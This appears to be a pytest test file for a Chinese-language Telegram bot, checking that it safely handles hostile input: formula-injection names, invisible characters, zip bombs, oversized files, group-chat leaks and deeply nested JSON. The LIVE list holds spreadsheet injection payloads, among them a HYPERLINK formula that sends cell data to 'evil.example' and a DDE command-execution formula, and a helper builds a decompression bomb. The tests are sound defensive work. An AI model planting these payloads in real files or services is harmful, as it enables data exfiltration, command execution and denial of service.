"""Hostile and careless input: formulas and hidden characters in names, spreadsheets that would
exhaust the machine, files over Telegram's limit, failures, and group chats."""

from __future__ import annotations

import asyncio
import io
import os
import signal
import threading
import time
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from bot.app import App
from bot.core import Incoming, Kind
from bot.core.i18n import translate
from models import Enterprise
from services.imports import REQUIRED, header_words, worker
from tests import deskkit as k
from tests.conftest import ChatFactory
from tests.kit import Chat
from tests.test_desk_import import spreadsheet

NOV = datetime(2026, 11, 10, 3, 0, tzinfo=UTC)
LIVE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB开头",
    "\r回车开头",
]


def serve(app: App, content: bytes | Exception) -> None:
    async def fetch(file_id: str) -> bytes:
        if isinstance(content, Exception):
            raise content
        return content

    app.fetch_file = fetch


async def export_leads(person: Chat) -> object:
    await person.send("/export")
    await person.press("线索")
    await person.press("本月")
    files = person.files()
    assert files, person.last_text
    return load_workbook(io.BytesIO(files[-1].content)).active


async def stored_names(app: App) -> set[str]:
    async with app.db.session() as session:
        return set((await session.exec(select(Enterprise.name))).all())


# -- 1. exports never carry a live formula --------------------------------------------------
async def test_texts_that_look_like_formulas_are_exported_as_text(chat: ChatFactory, app: App) -> None:
    for name in LIVE:
        enterprise = await k.enterprise(app, name)
        assert enterprise.id is not None
        await k.lead(app, enterprise.id, k.LIAISON, at=NOV, plan=name)
    ws = await export_leads(chat(k.BUREAU))
    cells = {row[2].value: row for row in ws.iter_rows(min_row=2)}  # type: ignore[attr-defined]
    assert set(cells) == {name.replace("\r", "\n") for name in LIVE}
    for name, row in cells.items():
        for cell in (row[2], row[5]):  # the enterprise and the plan
            assert cell.data_type == "s", name  # a formula would read back as "f"
            # XML keeps no bare carriage return; what matters is that it is text.
            assert cell.value == name.replace("\r", "\n")
            assert cell.quotePrefix, name


async def test_a_formula_typed_in_an_import_is_stored_and_exported_as_text(chat: ChatFactory, app: App) -> None:
    name = LIVE[0]
    wb = load_workbook(
        io.BytesIO(spreadsheet([["x", "新能源", None, None, None, None, None, None, None]], title=False))
    )
    cell = wb.active.cell(row=2, column=1)
    cell.value, cell.data_type = name, "s"  # typed as text, as Excel keeps '=… typed with a quote
    buffer = io.BytesIO()
    wb.save(buffer)
    serve(app, buffer.getvalue())
    gxj = chat(k.GXJ)
    await gxj.send_document("f", "f.xlsx")
    assert "新增企业 1 家" in gxj.last_text
    await gxj.press("确认导入")
    assert name in await stored_names(app)
    await gxj.send("/export")
    await gxj.press("目标企业")
    await gxj.press("本月")
    ws = load_workbook(io.BytesIO(gxj.files()[-1].content)).active
    cell = ws.cell(row=2, column=1)
    assert (cell.value, cell.data_type) == (name, "s")


# -- 4. hidden characters -----------------------------------------------------------------------
async def test_a_control_character_in_a_stored_name_does_not_break_the_export(chat: ChatFactory, app: App) -> None:
    enterprise = await k.enterprise(app, "响铃\x07科技有限公司")
    assert enterprise.id is not None
    await k.lead(app, enterprise.id, k.LIAISON, at=NOV, plan="扩产\x1b[31m")
    ws = await export_leads(chat(k.BUREAU))
    row = next(ws.iter_rows(min_row=2))  # type: ignore[attr-defined]
    assert (row[2].value, row[5].value) == ("响铃科技有限公司", "扩产[31m")


async def test_hidden_characters_are_dropped_where_text_comes_in(chat: ChatFactory, app: App) -> None:
    officer = chat(k.LIAISON)
    await officer.send("/lead")
    # A right-to-left override, zero-width spaces, a bell and a byte-order mark, all invisible.
    await officer.send("\ufeff宁德\u200b时代\u202e新能源\u200d\x07")
    await officer.press("新能源")
    await officer.send("扩产\u2066储能\u2069基地")
    await officer.send("5亿")
    await officer.press("确认保存")
    assert "宁德时代新能源" in await stored_names(app)
    from models import Lead

    async with app.db.session() as session:
        assert [lead.plan for lead in (await session.exec(select(Lead))).all()] == ["扩产储能基地"]


async def test_a_message_of_nothing_but_hidden_characters_is_asked_again(chat: ChatFactory) -> None:
    officer = chat(k.LIAISON)
    await officer.send("/lead")
    await officer.send("\u200b\u202e\x07")
    assert translate("zh", "core.err.empty") in officer.last_text
    await officer.send("比亚迪")
    assert officer.last_text == translate("zh", "lead.ask.chain")


# -- 2. spreadsheets that would exhaust the machine ---------------------------------------------
def zip_bomb() -> bytes:
    """A real workbook whose sheet is padded to 64 MB of blanks, squeezed to a few dozen KB."""
    good = io.BytesIO(spreadsheet([["宁德时代", "新能源", None, None, None, None, None, None, None]]))
    out = io.BytesIO()
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * (64 * 1024 * 1024))
            target.writestr(item.filename, data)
    return out.getvalue()


async def test_a_zip_bomb_is_refused_before_it_is_parsed(chat: ChatFactory, app: App) -> None:
    bomb = zip_bomb()
    assert len(bomb) < 200 * 1024
    serve(app, bomb)
    gxj = chat(k.GXJ)
    await gxj.send_document("bomb", "bomb.xlsx")
    assert gxj.last_text == translate("zh", "desk.import.bad.unpacked", limit=256)


async def test_a_file_that_takes_too_long_is_stopped(
    chat: ChatFactory, app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(worker, "TIME_LIMIT", 0.0)
    serve(app, spreadsheet())
    gxj = chat(k.GXJ)
    await gxj.send_document("slow", "slow.xlsx")
    assert gxj.last_text == translate("zh", "desk.import.bad.too_slow", seconds=0)
    # The limit is the reader's, not the bot's: the next file is read as usual.
    monkeypatch.setattr(worker, "TIME_LIMIT", 10.0)
    await gxj.send_document("ok", "ok.xlsx")
    assert gxj.heard("desk.import.summary")


async def test_a_normal_file_is_not_refused_while_the_machine_is_busy(
    chat: ChatFactory, app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A busy machine, as the reader feels it: runnable, but given no core for a while.
    # The limit counts the reading's own work, so waiting twice the limit is not refused.
    monkeypatch.setattr(worker, "TIME_LIMIT", 1.0)
    looked = worker._cpu_seconds
    held: list[int] = []

    def first_look_holds_the_reader(pid: int) -> float | None:
        if not held:
            held.append(pid)
            os.kill(pid, signal.SIGSTOP)
            threading.Timer(2.0, os.kill, (pid, signal.SIGCONT)).start()
        return looked(pid)

    monkeypatch.setattr(worker, "_cpu_seconds", first_look_holds_the_reader)
    serve(app, spreadsheet())
    gxj = chat(k.GXJ)
    started = time.monotonic()
    await gxj.send_document("busy", "busy.xlsx")
    assert held and time.monotonic() - started >= 2.0
    assert gxj.heard("desk.import.summary")


def padded(count: int) -> bytes:
    """A workbook of one row and ``count`` rows of a blank cell: little to unpack, much to read."""
    good = io.BytesIO(spreadsheet([["宁德时代", "新能源", None, None, None, None, None, None, None]]))
    out = io.BytesIO()
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                rows = "".join(
                    f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t> </t></is></c></row>' for n in range(4, 4 + count)
                )
                data = data.replace(b"</sheetData>", rows.encode() + b"</sheetData>")
            target.writestr(item.filename, data)
    return out.getvalue()


async def test_a_reading_that_works_past_the_limit_is_stopped_by_its_processor_time() -> None:
    # A hundred thousand rows to parse (over half a second of work) against a limit of a
    # fifth of that, with the clock's limit far away: stopped for the work it did.
    with pytest.raises(worker.SheetError) as refused:
        await asyncio.to_thread(worker.read_apart, padded(100_000), header_words(), REQUIRED, seconds=0.1, wall=60.0)
    assert refused.value.code == "too_slow"
    # The same file with room to work is read.
    sheet = await asyncio.to_thread(worker.read_apart, padded(100_000), header_words(), REQUIRED)
    assert [row.cells["name"] for row in sheet.rows] == ["宁德时代"]


async def test_running_out_of_memory_is_not_called_a_bad_file(
    chat: ChatFactory, app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(worker, "MEMORY_LIMIT", 0)
    note = "储能电池基地" * 60
    serve(
        app,
        spreadsheet([[f"企业{i}", "新能源", None, None, None, None, None, None, note + str(i)] for i in range(1500)]),
    )
    gxj = chat(k.GXJ)
    await gxj.send_document("heavy", "heavy.xlsx")
    assert gxj.last_text == translate("zh", "desk.import.bad.memory")


def test_reading_stops_at_the_row_after_the_limit() -> None:
    from services.imports import REQUIRED, SheetError, header_words, read

    rows: list[list[object]] = [[f"企业{i}", "新能源", None, None, None, None, None, None, None] for i in range(2001)]
    rows.append(["", "", "", "", "", "", "", "", ""])
    with pytest.raises(SheetError) as refused:
        read(spreadsheet(rows), header_words(), REQUIRED)
    assert refused.value.code == "too_many_rows"
    sheet = read(spreadsheet(rows[1:]), header_words(), REQUIRED)
    assert len(sheet.rows) == 2000 and sheet.blank == 1


# -- 3. files over Telegram's limit, and the apology after a failure ----------------------------
async def test_a_file_telegram_will_not_hand_over_is_called_too_big(chat: ChatFactory, app: App) -> None:
    serve(app, RuntimeError("Bad Request: file is too big"))
    gxj = chat(k.GXJ)
    await gxj.send_document("huge", "huge.xlsx")  # Telegram did not say its size
    assert gxj.last_text == translate("zh", "desk.import.bad.too_big", limit=20)
    await gxj.send_document("huge", "huge.xlsx", size=21 * 1024 * 1024)
    assert gxj.last_text == translate("zh", "desk.import.bad.too_big", limit=20)


async def test_the_apology_mentions_a_draft_only_when_there_is_one(
    chat: ChatFactory, app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    from services import enterprises, search

    async def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr(search, "find", broken)
    officer = chat(k.LIAISON)
    await officer.send("/find 宁德")
    assert officer.last_text == translate("zh", "core.error.nothing_kept")

    monkeypatch.setattr(enterprises, "by_name", broken)
    await officer.send("/lead")
    await officer.send("宁德时代")
    assert officer.last_text == translate("zh", "core.error")


# -- 7. group chats -------------------------------------------------------------------------------
async def test_a_group_gets_no_data(chat: ChatFactory, app: App) -> None:
    catl = await k.enterprise(app, "宁德时代")
    assert catl.id is not None
    await k.project(app, catl.id, k.GANZHOU, "宁德时代储能电池基地", planned=2_000_000_000)
    county = chat(k.GANZHOU)
    await county.send("/projects")
    assert "宁德时代储能电池基地" in county.last_text  # in private, as ever

    group = -100_123
    for kind, fields in (
        (Kind.COMMAND, {"command": "projects", "text": "/projects"}),
        (Kind.COMMAND, {"command": "find", "args": "宁德", "text": "/find 宁德"}),
        (Kind.BUTTON, {"data": "!lead:1", "message_id": 5}),
    ):
        response = await county.deliver(
            Incoming(kind, chat_id=group, user_id=k.GANZHOU, update_id=None, chat_type="supergroup", **fields)  # type: ignore[arg-type]
        )
        shown = " ".join(getattr(item, "text", "") for item in response.items)
        assert "宁德" not in shown and "20亿" not in shown
        expected = "core.private_only" if kind is Kind.COMMAND else "core.private_only.short"
        assert translate("zh", expected) in shown


# -- 10. small ones -------------------------------------------------------------------------------
async def test_a_deeply_nested_body_with_the_right_secret_is_a_bad_request() -> None:
    import aiohttp

    from bot.webhook import SECRET_HEADER, WebhookServer

    fed: list[object] = []

    async def feed(update: dict[str, object]) -> None:
        fed.append(update)

    server = WebhookServer(feed, secret="s3cret", path="/hook", host="127.0.0.1", port=0)
    await server.start()
    try:
        url = f"http://127.0.0.1:{server.port}/hook"
        async with aiohttp.ClientSession() as http:
            deep = "[" * 100_000 + "]" * 100_000
            async with http.post(url, data=deep, headers={SECRET_HEADER: "s3cret"}) as answer:
                assert answer.status == 400
            async with http.post(url, json={"update_id": 1}, headers={SECRET_HEADER: "s3cret"}) as answer:
                assert answer.status == 200
    finally:
        await server.stop()
    assert fed == [{"update_id": 1}]


async def test_wrong_start_codes_are_throttled_per_person(chat: ChatFactory, clock: object, join: object) -> None:
    from datetime import timedelta

    stranger, other = chat(800_000_000_001), chat(800_000_000_002)
    for attempt in range(5):
        await stranger.send(f"/start guess{attempt}")
        assert stranger.last_text == translate("zh", "start.invite.unknown")
    await stranger.send("/start guess5")
    assert stranger.last_text == translate("zh", "start.invite.throttled", minutes=15)
    await other.send("/start guess")  # someone else is not held up
    assert other.last_text == translate("zh", "start.invite.unknown")
    clock.now += timedelta(minutes=15, seconds=1)  # type: ignore[attr-defined]
    await stranger.send("/start guess6")
    assert stranger.last_text == translate("zh", "start.invite.unknown")
